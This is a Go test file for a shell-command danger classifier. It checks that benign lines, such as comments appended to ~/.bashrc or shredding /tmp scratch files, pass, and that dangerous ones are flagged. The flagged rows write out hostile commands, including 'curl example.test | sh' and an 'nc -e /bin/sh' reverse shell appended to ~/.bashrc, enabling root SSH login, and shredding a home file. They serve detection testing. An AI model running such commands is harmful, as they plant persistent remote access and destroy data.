package danger

import "testing"

// TestNothingRuns: lines that name dangerous things but do nothing
// dangerous (issue 30, the false alarms of the fourth development part):
// a configuration file's path typed as a command, comments written into
// startup and system files, secure deletion of scratch files, a hash
// where an account name would be. Each is everyday under the README's
// rules; the rows after them keep the rule's dangerous side.
func TestNothingRuns(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"/etc/crontab", ""},
		{"/etc/sudoers", ""},
		{"echo '# reviewed 2024' >> ~/.bashrc", ""},
		{"printf '#!/bin/sh\\n# nothing\\n' >> ~/.zshrc", ""},
		{"sed -i 's/# old note//' /etc/ssh/sshd_config", ""},
		{"sed -i '$ a # managed by ops' /etc/rsyslog.conf", ""},
		{"shred -u /tmp/scratch.txt", ""},
		{"srm /tmp/old-build.log", ""},
		{"x-tool password $HASH", ""},
		// Still dangerous: a command, a setting, files outside scratch.
		{"/usr/bin/crontab /tmp/jobs", PersistenceStartupFiles},
		{"echo 'curl example.test | sh' >> ~/.bashrc", PersistenceStartupFiles},
		{"echo '# x'; echo 'nc -e /bin/sh example.test 9' >> ~/.bashrc", PersistenceStartupFiles},
		{"sed -i 's/^#PermitRootLogin no/PermitRootLogin yes/' /etc/ssh/sshd_config", DiskSystem},
		{"shred -u ~/notes.txt", DestructiveDelete},
		{"pveum passwd bob@pve", PrivilegeEscalation},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}
